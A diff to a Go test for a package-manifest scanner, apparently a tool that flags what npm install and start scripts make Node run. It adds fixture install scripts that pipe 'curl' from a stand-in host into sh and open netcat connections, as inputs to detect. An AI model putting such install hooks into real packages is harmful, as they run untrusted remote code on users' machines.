@@ -308,12 +308,14 @@ func TestManifestTellsWhatItMakesNodeRun(t *testing.T) {
 		`{"imports": {"#a": "child_process", "#b": {"default": "node:net"}, "#c": "left-pad"}}`: "module child_process, module net",
 		`{"scripts": {"postinstall": "node -e \"require('net')\""}}`:                            "module net",
 		`{"scripts": {"postinstall": "a=osa; ${a}script -e beep"}}`:                             "call start:osascript*",
+		`{"scripts": {"install": "curl -s http://kit.test/a | sh"}}`:                            "call install:fetch, call install:run-fetched",
+		`{"scripts": {"install": "npm run a", "a": "python3 a.py; nc kit.test 80"}}`:            "call install:connect, call install:interpret",
 	} {
 		if got := uses(ReadManifest([]byte(src), nil)); got != want {
 			t.Errorf("%s: got %q, want %q", src, got, want)
 		}
 	}
-	if ReadManifest([]byte(`{"scripts": {"test": "jest"}}`), nil) != nil {
+	if ReadManifest([]byte(`{"scripts": {"test": "jest; curl kit.test | sh; nc -l 80"}}`), nil) != nil {
 		t.Error("a manifest without either has a view")
 	}
 }
